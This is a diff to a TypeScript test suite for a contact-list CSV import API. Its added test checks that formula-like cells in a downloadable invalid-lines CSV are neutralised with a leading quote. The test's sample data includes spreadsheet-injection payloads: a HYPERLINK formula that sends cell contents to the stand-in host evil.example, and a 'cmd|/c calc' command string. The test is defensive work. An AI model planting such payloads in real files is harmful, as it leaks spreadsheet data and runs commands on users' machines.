@@ -116,8 +116,40 @@ describe('contact list import', () => {
     expect(download.headers.get('content-type')).toMatch(/^text\/csv/);
     expect(download.headers.get('content-disposition')).toMatch(/^attachment; filename=".+-invalid\.csv"$/);
     expect(await download.text()).toBe(
-      'line,raw,reason\n3,n/a,not-a-number\n6,12,too-short\n8,"",empty\n10,"junk, with ""quotes""",not-a-number\n',
+      'line,raw,reason\n3,"n/a",not-a-number\n6,"12",too-short\n8,"",empty\n10,"junk, with ""quotes""",not-a-number\n',
     );
+  });
+
+  it('makes the invalid-lines CSV inert in a spreadsheet: formula-like cells start with a quote (F24)', async () => {
+    const { token } = await userToken();
+    const hostile = [
+      '=HYPERLINK("https://evil.example/?"&A1,"Fix")',
+      '+1 (0) cmd|/c calc',
+      '-2+3',
+      '@SUM(A1:A2)',
+      '\t=1+1',
+      'x=1', // not at the start: left alone
+    ];
+    const quoted = (s: string) => `"${s.replaceAll('"', '""')}"`;
+    const csv = `name,phone\n${hostile.map((h, i) => `n${i},${quoted(h)}`).join('\n')}\n`;
+    const report = await imported(token, csv);
+    expect(report).toMatchObject({ imported: 0, invalid: hostile.length });
+    // The JSON report keeps the text exactly as uploaded.
+    expect(report.invalidSample.map((s) => s.raw)).toEqual(hostile);
+
+    const download = await call('GET', `/api/v1/contact-lists/${report.id}/invalid`, { token });
+    expect(download.status).toBe(200);
+    const [header, ...rows] = (await download.text()).trimEnd().split('\n');
+    expect(header).toBe('line,raw,reason');
+    // Each row is `line,"raw",reason`; the reason is the phone parser's, not the point here.
+    expect(rows.map((r) => r.replace(/,[a-z-]+$/, ''))).toEqual([
+      `2,"'=HYPERLINK(""https://evil.example/?""&A1,""Fix"")"`,
+      `3,"'+1 (0) cmd|/c calc"`,
+      `4,"'-2+3"`,
+      `5,"'@SUM(A1:A2)"`,
+      `6,"'\t=1+1"`,
+      `7,"x=1"`,
+    ]);
   });
 
   it('pages through every contact exactly once, in file order, across pieces handled by several workers', async () => {
